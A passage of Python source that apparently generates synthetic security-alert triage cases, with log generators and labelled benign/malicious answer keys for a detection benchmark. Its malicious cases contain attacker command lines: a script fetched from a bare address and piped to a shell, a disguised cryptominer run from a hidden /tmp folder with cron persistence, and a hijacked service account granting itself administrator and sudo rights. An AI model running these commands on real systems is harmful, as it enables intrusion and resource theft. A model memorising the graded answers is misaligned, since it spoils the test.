        starters.add(case.after(days=-2), f"2025-08-27T15:00:00Z,{7100 + turn},{user},{('sales', 'yard', 'office')[turn % 3]},2025-09-01,hr@fjell.example", "approved")  # fmt: skip
        ipa(
            log,
            when,
            "10.3.0.8",
            "hrsync",
            f"user_add/1('{user}', givenname='{STAFF[turn].title()}', sn='Ne', version='2.251')",
            "added",
        )
        for group in ("staff", "vpn-users", ("sales", "yard", "office")[turn % 3]):
            ipa(log, when + timedelta(seconds=1), "10.3.0.8", "hrsync", f"group_add_member/1('{group}', user=('{user}',), version='2.251')", "added")  # fmt: skip
    case.alert = {"rule": "Mass creation of accounts and group membership changes", "severity": "high", "ts": iso(case.start + timedelta(days=3, hours=4, minutes=1)), "actor": "hrsync", "source": "10.3.0.8", "changes": 48}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The HR job, from its own server and at its hour of every night, makes the twelve accounts that HR approved for the first of September.",
        steps={"added": "accounts and groups", "approved": "HR's list of starters"},
        not_iocs=("hrsync", "10.3.0.8"),
    )


def administrators_made_at_night() -> Case:
    """The HR job's account is used from elsewhere to make an account that nobody hired and to put it among the administrators."""
    case = Case("m33_freeipa_unhired_administrator", "2025-08-29 00:00:00")
    log = directory_days(case, 3)
    starters = case.log("hr-starters.csv", "exported,employee,login,department,first_day,approved_by")
    for turn in range(3):
        starters.add(
            case.after(days=-2),
            f"2025-08-27T15:00:00Z,{7100 + turn},{STAFF[turn]}.ne,sales,2025-09-01,hr@fjell.example",
        )
    for turn, call in enumerate(("user_add/1('svc.print', givenname='Print', sn='Service', version='2.251')", "passwd/1('svc.print', '********', version='2.251')", "group_add_member/1('admins', user=('svc.print',), version='2.251')", "hbacrule_add_user/1('allow_all', user=('svc.print',), version='2.251')", "sudorule_add_user/1('all', user=('svc.print',), version='2.251')")):  # fmt: skip
        ipa(log, case.after(days=3, hours=2, minutes=11, seconds=20 * turn), "10.3.88.41", "hrsync", call, "added")
    case.alert = {"rule": "Account created and made administrator", "severity": "high", "ts": iso(case.start + timedelta(days=3, hours=2, minutes=12)), "actor": "hrsync", "source": "10.3.88.41", "changes": 5}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "hrsync, from an address that the job never ran from and at another hour, makes svc.print, which HR's list does not name, and puts it among the administrators.",
        steps={"added": "an administrator is made"},
        techniques="T1136",
        more_techniques="T1136.002 T1098 T1098.007 T1078 T1078.002 T1548.003",
        iocs=("10.3.88.41", "svc.print"),
        more_iocs=("hrsync",),
        not_iocs=("admin.liv", "10.3.0.8"),
    )


def osquery(log: Log, when: datetime, host: str, user: str, pid: int, parent: int, command: str, *steps: str) -> None:  # fmt: skip
    """One row of osquery's process events."""
    log.add(when, {"name": "pack_edr_process_events", "hostIdentifier": host, "calendarTime": when.strftime("%a %b %e %H:%M:%S %Y UTC"), "unixTime": int(when.timestamp()), "epoch": 0, "counter": 11, "numerics": False, "decorations": {"host_uuid": "0c7e", "username": user}, "columns": {"auid": "1004" if user != "root" else "4294967295", "cmdline": command, "cwd": f"/home/{user}" if user != "root" else "/", "euid": "1004" if user != "root" else "0", "parent": str(parent), "path": command.split()[0] if command.startswith("/") else f"/usr/bin/{command.split()[0]}", "pid": str(pid), "time": str(int(when.timestamp())), "uid": "1004" if user != "root" else "0"}, "action": "added"}, *steps)  # fmt: skip


def resolved(log: Log, when: datetime, client: str, name: str, address: str, *steps: str) -> None:
    """A question and its answer in dnsmasq's log."""
    stamp = when.strftime("%b %e %H:%M:%S")
    log.add(when, f"{stamp} dnsmasq[812]: query[A] {name} from {client}", *steps)
    log.add(when, f"{stamp} dnsmasq[812]: reply {name} is {address}", *steps)


def laboratory(case: Case, days: int) -> tuple[Log, Log]:
    """Developers at work on laboratory machines."""
    log, names = case.log("osquery.results.log"), case.log("dnsmasq.log")
    for day in range(days):
        for host, client, user in (("lab-07", "10.6.7.7", "odd"), ("lab-08", "10.6.7.8", "pia")):
            for turn in range(30):
                when = case.after(days=day, hours=7, minutes=case.dice.randrange(540))
                command = case.dice.choice(("git fetch origin", "/usr/bin/make -j4", "/usr/bin/python3 -m pytest -q", "git status", "/usr/bin/gcc -O2 -c parse.c", "ls -l build"))  # fmt: skip
                osquery(log, when, host, user, 4000 + 40 * day + turn, 2100, command)
                if command.startswith("git fetch"):
                    resolved(names, when, client, "git.voll.example", "10.6.0.3")
            resolved(names, case.after(days=day, hours=8), client, "mirror.example", "198.51.100.132")
    return log, names


def toolchain_in_the_laboratory() -> Case:
    """A developer runs the installer of a well-known tool chain, as its own pages say."""
    case = Case("b34_osquery_toolchain_installer", "2025-06-02 00:00:00")
    log, names = laboratory(case, 3)
    osquery(
        log,
        case.after(days=1, hours=10),
        "lab-08",
        "pia",
        5000,
        2100,
        "curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs",
        "before",
    )
    osquery(log, case.after(days=1, hours=10, seconds=2), "lab-08", "pia", 5001, 2100, "/bin/sh", "before")
    start = case.start + timedelta(days=2, hours=11)
    resolved(names, start, "10.6.7.7", "sh.rustup.rs", "18.66.112.40", "~names")
    for seconds, pid, parent, command in ((0, 6000, 2100, "curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs"), (1, 6001, 2100, "/bin/sh"), (2, 6004, 6001, "curl --proto =https --tlsv1.2 --silent --show-error --fail --location https://static.rust-lang.org/rustup/dist/x86_64-unknown-linux-gnu/rustup-init --output /tmp/tmp.4xQz/rustup-init"), (4, 6005, 6001, "chmod u+x /tmp/tmp.4xQz/rustup-init"), (5, 6006, 6001, "/tmp/tmp.4xQz/rustup-init"), (40, 6010, 2100, "/home/odd/.cargo/bin/rustc --version"), (90, 6012, 2100, "/home/odd/.cargo/bin/cargo build")):  # fmt: skip
        osquery(log, start + timedelta(seconds=seconds), "lab-07", "odd", pid, parent, command, "installer")
    resolved(names, start + timedelta(seconds=2), "10.6.7.7", "static.rust-lang.org", "151.101.66.137", "~names")
    resolved(names, start + timedelta(seconds=91), "10.6.7.7", "index.crates.io", "18.66.112.7", "~names")
    case.alert = {"alert": "Download piped into a shell; program started from /tmp", "severity": "high", "time": iso(start + timedelta(seconds=5)), "host": "lab-07", "user": "odd", "cmdline": "/tmp/tmp.4xQz/rustup-init"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "odd runs the Rust project's own installer from its own names over TLS, as pia did the day before, and builds with it; nothing is made to stay and root is not used.",
        steps={"installer": "the installer and what it started"},
        optional={"before": "a colleague did the same the day before"},
        not_iocs=("odd", "lab-07", "sh.rustup.rs", "static.rust-lang.org"),
    )


def script_from_a_bare_address() -> Case:
    """The same way of installing, from a bare address, and a miner that comes back every five minutes."""
    case = Case("m34_osquery_script_from_bare_address", "2025-06-02 00:00:00")
    log, names = laboratory(case, 3)
    start = case.start + timedelta(days=2, hours=11)
    server = case.public()
    for seconds, pid, parent, command in ((0, 6000, 2100, f"curl -fsSL http://{server}:8000/i.sh"), (1, 6001, 2100, "/bin/sh"), (2, 6004, 6001, f"curl -fsSL http://{server}:8000/k.tgz -o /tmp/.k/k.tgz"), (4, 6005, 6001, "chmod 755 /tmp/.k/kthreadd0"), (5, 6006, 6001, "/tmp/.k/kthreadd0 -o stratum+tcp://pool.grav-pool.example:4444 -u 44Af"), (7, 6010, 6001, "crontab -"), (8, 6011, 6001, "/bin/sh -c (crontab -l; echo '*/5 * * * * /tmp/.k/kthreadd0') | crontab -")):  # fmt: skip
        osquery(log, start + timedelta(seconds=seconds), "lab-07", "odd", pid, parent, command, "installed")
    resolved(names, start + timedelta(seconds=5), "10.6.7.7", "pool.grav-pool.example", case.public(), "pool")
    case.alert = {"alert": "Download piped into a shell; program started from /tmp", "severity": "high", "time": iso(start + timedelta(seconds=5)), "host": "lab-07", "user": "odd", "cmdline": "/tmp/.k/kthreadd0"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "A script from a bare address is piped into a shell, a miner starts from a hidden folder and is made to come back every five minutes.",
        steps={"installed": "script, miner and schedule"},
        optional={"pool": "the pool's name is asked"},
        techniques="T1059.004 T1053.003",
        more_techniques="T1105 T1496 T1496.001 T1036 T1036.005 T1564.001 T1071.001 T1053",
        iocs=(server,),
        more_iocs=("pool.grav-pool.example", "/tmp/.k/kthreadd0", "odd"),
        not_iocs=("pia", "git.voll.example"),
    )


def mariadb(case: Case, log: Log, when: datetime, user: str, client: str, operation: str, database: str, statement: str, code: int, *steps: str) -> None:  # fmt: skip
    """One line of MariaDB's server_audit plugin."""
    log.add(when, f"{when.strftime('%Y%m%d %H:%M:%S')},sql2,{user},{client},{case.dice.randrange(1000, 9000)},{case.dice.randrange(10000, 90000) if operation == 'QUERY' else 0},{operation},{database},{statement},{code}", *steps)  # fmt: skip


def stale_report_password() -> Case:
    """The database's administrator changes a service's password; the report server goes on with the old one."""
    case = Case("b35_mariadb_stale_service_password", "2025-07-07 00:00:00")
    log = case.log("server_audit.log")
    change = timedelta(days=2, hours=9)
    for turn in range(4 * 60):
        when = case.start + timedelta(minutes=15 * turn, seconds=case.dice.randrange(2))
        if when < case.start + change:
            mariadb(case, log, when, "reports", "10.4.2.8", "CONNECT", "sales", "", 0, "before")
            mariadb(case, log, when, "reports", "10.4.2.8", "QUERY", "sales", "'SELECT SUM(total) FROM orders WHERE day = CURDATE()'", 0)  # fmt: skip
        else:
            mariadb(case, log, when, "reports", "10.4.2.8", "FAILED_CONNECT", "", "", 1045, "failures")
            mariadb(case, log, when, "reports", "10.4.2.8", "DISCONNECT", "", "", 0)
    for turn in range(120):
        when = case.sometime(days=2, hours=12)
        mariadb(
            case,
            log,
            when,
            "shop",
            "10.4.1.5",
            "QUERY",
            "sales",
            f"'UPDATE stock SET left = left - 1 WHERE id = {turn}'",
            0,
        )
    mariadb(case, log, case.start + change - timedelta(seconds=40), "dba.eva", "10.4.9.3", "CONNECT", "mysql", "", 0)
    mariadb(case, log, case.start + change - timedelta(seconds=20), "dba.eva", "10.4.9.3", "QUERY", "mysql", "'ALTER USER `reports`@`10.4.2.%` IDENTIFIED BY *****'", 0, "changed")  # fmt: skip
    case.alert = {"name": "Repeated failed database log-ins", "severity": "high", "time": iso(case.start + change + timedelta(hours=2)), "db_user": "reports", "client": "10.4.2.8", "count": 9}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "dba.eva changed the password of reports; the report server, which came every quarter of an hour before, goes on at that rhythm with the old password.",
        steps={
            "failures": "failures every quarter of an hour",
            "changed": "the password was changed just before",
            "before": "the same log-in worked before",
        },
        not_iocs=("reports", "10.4.2.8", "dba.eva"),
    )


CASES = (
    nightly_backup_of_shares,
    shares_emptied_by_one_person,
    probe_with_the_old_password,
    travelling_with_the_own_laptop,
    certificate_in_other_hands,
    help_desk_after_expiry,
    help_desk_account_taken,
    on_call_at_three,
    night_without_a_page,
    moved_to_the_own_bucket,
    load_test,
    new_starters,
    administrators_made_at_night,
    toolchain_in_the_laboratory,
    script_from_a_bare_address,
    stale_report_password,
)
